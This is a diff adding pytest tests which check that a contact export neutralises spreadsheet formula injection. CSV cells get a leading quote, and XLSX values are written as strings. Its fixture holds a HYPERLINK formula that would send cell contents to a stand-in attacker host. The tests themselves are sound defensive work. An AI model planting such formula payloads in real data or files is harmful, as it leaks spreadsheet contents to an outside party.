@@ -98,3 +98,41 @@ def test_export_of_many_lines_and_bad_format(
     assert len(list(read_rows(path))) == 301
     with pytest.raises(ValidationError, match="not csv or xlsx"), tx() as ctx:
         export_segment(ctx, no, tmp_path / "x.txt")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+COLUMNS_SEEN = ("Name", "Phone No.", "Mobile Phone No.", "Company Name")
+
+
+def _export_formula_like(fixture_db: SF, tx: TxFactory, path: Path) -> None:
+    with fixture_db.begin() as s:
+        contact = s.get(m.Contact, "P12")
+        assert contact is not None
+        contact.name, contact.phone_no, contact.mobile_phone_no = EVIL, "+47 22 33 44 55", "-1"
+    no = make_segment(tx, contacts=("P12",))
+    with tx() as ctx:
+        assert export_segment(ctx, no, path) == 1
+
+
+def test_csv_export_puts_a_quote_before_formula_like_text(
+    fixture_db: SF, tx: TxFactory, tmp_path: Path
+) -> None:
+    _export_formula_like(fixture_db, tx, tmp_path / "out.csv")
+    row = dict(zip(COLUMNS, list(read_rows(tmp_path / "out.csv"))[1], strict=True))
+    assert [row[c] for c in COLUMNS_SEEN] == [f"'{EVIL}", "'+47 22 33 44 55", "'-1",
+                                              "Alpha Ltd"]
+
+
+def test_xlsx_export_writes_formula_like_text_as_string_cells(
+    fixture_db: SF, tx: TxFactory, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    _export_formula_like(fixture_db, tx, tmp_path / "out.xlsx")
+    cells = dict(zip(COLUMNS, load_workbook(tmp_path / "out.xlsx").worksheets[0][2],
+                     strict=True))
+    assert [(cells[c].value, cells[c].data_type) for c in COLUMNS_SEEN] == [
+        (EVIL, "s"), ("+47 22 33 44 55", "s"), ("-1", "s"), ("Alpha Ltd", "s")]  # never "f"
+    assert (cells["Line No."].value, cells["Line No."].data_type) == (10000, "n")
